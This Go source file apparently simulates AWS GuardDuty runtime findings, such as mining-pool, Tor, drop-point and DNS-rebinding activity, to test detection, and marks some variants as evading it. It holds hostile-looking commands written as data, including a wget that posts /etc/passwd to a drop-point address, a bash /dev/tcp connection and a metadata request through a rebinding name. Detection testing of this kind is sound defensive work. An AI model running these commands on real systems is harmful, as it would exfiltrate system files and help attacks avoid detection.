package simulate

import (
	"fmt"
	"net/netip"
	"strconv"
)

// The finding types about addresses and names.
const (
	typeBitcoinTool  = "CryptoCurrency:Runtime/BitcoinTool.B"
	typeTorRelay     = "UnauthorizedAccess:Runtime/TorRelay"
	typeTorClient    = "UnauthorizedAccess:Runtime/TorClient"
	typeBlackhole    = "Trojan:Runtime/BlackholeTraffic"
	typeDropPoint    = "Trojan:Runtime/DropPoint"
	typeMetadataDNS  = "UnauthorizedAccess:Runtime/MetadataDNSRebind"
	typeGeneratedDNS = "Trojan:Runtime/DGADomainRequest.C!DNS"
)

// connections are the reproductions of what talks to an address on a list.
func connections() []Reproduction {
	return []Reproduction{
		{typeBitcoinTool, "A process connects to the address of a mining pool.", append(contact(poolAddress, 3333),
			act("stratum", "a miner's first message to the pool", "say", poolAddress+":3333", `{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}`),
		)},
		{typeTorClient, "A process connects to a Tor guard or authority.", append(contact(guardAddress, 9001),
			act("authority", "connect(2) to a directory authority", "connect", "tcp", authorityAddress+":80"),
		)},
		{typeTorRelay, "A process accepts connections like a Tor relay, and makes some to other relays.", []Technique{
			act("outbound", "connections to several relays, with a listening port of its own", "tor", "outbound", "0.0.0.0:9001", relayAddress, strconv.Itoa(relays)),
			act("inbound", "connections from several relays to a listening port", "tor", "inbound", "0.0.0.0:9001", relayAddress, strconv.Itoa(relays)),
			act("both", "connections from relays, each passed on to another relay", "tor", "both", "0.0.0.0:9001", relayAddress, strconv.Itoa(relays)),
			act("other-port", "the same on the port of web servers", "tor", "both", "0.0.0.0:443", relayAddress, strconv.Itoa(relays)).evading("the relay's usual port"),
		}},
		{typeBlackhole, "A process connects to the address of a black hole.", contact(blackholeAddress, 80)},
		{typeDropPoint, "A process connects to an address that stolen data is sent to.", append(contact(dropPointAddress, 443),
			shell("exfiltrate", "a file is sent with wget", fmt.Sprintf("wget -q -O /dev/null --post-file=/etc/passwd http://%s:%d/upload", dropPointAddress, servedPort)).needs("wget"),
		)},
	}
}

// contact returns ways to talk to an address.
func contact(address string, port int) []Technique {
	peer := netip.AddrPortFrom(netip.MustParseAddr(address), uint16(port)).String()
	answering := netip.AddrPortFrom(netip.MustParseAddr(address), servedPort).String()
	to := netip.MustParseAddr(address).As4()
	return []Technique{
		act("tcp", "connect(2) that is answered", "connect", "tcp", answering),
		act("tcp-refused", "connect(2) to a closed port", "connect", "tcp", peer).evading("the call's success"),
		act("tcp-nonblocking", "connect(2) on a non-blocking socket", "connect", "nonblock", answering),
		act("udp", "connect(2) on a datagram socket", "connect", "udp", peer),
		act("udp-sendto", "sendto(2) without connect(2)", "connect", "sendto", peer).evading("connect(2)"),
		act("tcp-mapped", "connect(2) to ::ffff:a.b.c.d", "connect", "mapped", answering).evading("the address family"),
		command("bash", "bash and its /dev/tcp", "bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d; echo >&3", address, servedPort)).needs("bash"),
		command("wget", "wget", "wget", "-q", "-O", "/dev/null", "http://"+answering+"/").needs("wget"),
		perl("perl", "perl", fmt.Sprintf(`socket(S,2,1,6) or die; connect(S,pack("Sna4x8",2,%d,"\x%02x\x%02x\x%02x\x%02x")) or die "$!\n"`,
			servedPort, to[0], to[1], to[2], to[3])),
	}
}

// lookups are the reproductions of what looks up a name on a list, with the names that AWS documents for tests.
func lookups() []Reproduction {
	all := []Reproduction{
		{"CryptoCurrency:Runtime/BitcoinTool.B!DNS", "A process looks up a name of a mining pool.", question("crypto.guarddutyc2activityb.com")},
		{"Trojan:Runtime/BlackholeTraffic!DNS", "A process looks up a name that leads into a black hole.", question("guarddutyblackholeactivity.com")},
		{"Trojan:Runtime/DropPoint!DNS", "A process looks up a name that stolen data is sent to.", question("guarddutydroppointactivity.com")},
		{typeGeneratedDNS, "A process looks up a name that an algorithm has made.", append(question("guarddutydgaactivity.com"),
			act("generated", "forty names of a simple generator, of which none is on a list", "dga", resolver, "40").evading("the list"),
		)},
		{"Trojan:Runtime/DriveBySourceTraffic!DNS", "A process looks up a name that hands malware to its visitors.", question("guarddutydrivebyactivity.com")},
		{"Trojan:Runtime/PhishingDomainRequest!DNS", "A process looks up a name that is used for phishing.", question("guarddutyphishingactivity.com")},
		{"Impact:Runtime/AbusedDomainRequest.Reputation", "A process looks up a name of ill repute for abuse.", question("abused-rep.guarddutyc2activityb.com")},
		{"Impact:Runtime/BitcoinDomainRequest.Reputation", "A process looks up a name of ill repute for cryptocurrency.", question("crypto-rep.guarddutyc2activityb.com")},
		{"Impact:Runtime/MaliciousDomainRequest.Reputation", "A process looks up a name of ill repute for malice.", question("malicious-rep.guarddutyc2activityb.com")},
		{"Impact:Runtime/SuspiciousDomainRequest.Reputation", "A process looks up a name that nobody knows.", question("suspicious-rep.guarddutyc2activityb.com")},
		{typeMetadataDNS, "A name that a process looks up turns out to be the address of the instance's metadata service.", []Technique{
			act("udp", "the answer over UDP", "dns", "udp", "rebind.example.net", resolver),
			act("tcp", "the answer over TCP", "dns", "tcp", "rebind.example.net", resolver),
			command("getent", "the C library's resolver", "getent", "ahostsv4", "rebind.example.net").needs("getent"),
			command("wget", "a request by wget", "wget", "-q", "-T", "1", "-t", "1", "-O", "/dev/null", "http://rebind.example.net/latest/meta-data/").needs("wget"),
			act("second", "the first answer is harmless, the second is not", "dns", "twice", "rebind-later.example.net", resolver).evading("the first answer"),
			act("alias", "the answer is an alias and the address of that", "dns", "udp", "rebind-alias.example.net", resolver).evading("the answer's first record"),
			act("among", "the address is the last of several", "dns", "udp", "rebind-among.example.net", resolver).evading("the answer's first record"),
		}},
	}
	return all
}

// question returns ways to ask for a name.
func question(name string) []Technique {
	return []Technique{
		act("udp", "a question on a connected datagram socket", "dns", "udp", name, resolver),
		act("udp-sendto", "a question by sendto(2)", "dns", "sendto", name, resolver),
		act("udp6", "a question over IPv6", "dns", "udp", name, resolver6),
		act("tcp", "a question over TCP", "dns", "tcp", name, resolver),
		command("getent", "the C library's resolver", "getent", "ahostsv4", name).needs("getent"),
		command("nslookup", "busybox's nslookup", "nslookup", "-type=a", name, "127.0.0.1").needs("nslookup"),
		act("mixed-case", "a question in mixed case", "dns", "udp", mixCase(name), resolver).evading("the spelling of the name"),
		act("subdomain", "a question for a name below the listed one", "dns", "udp", "x9.k."+name, resolver).evading("the exact name"),
	}
}
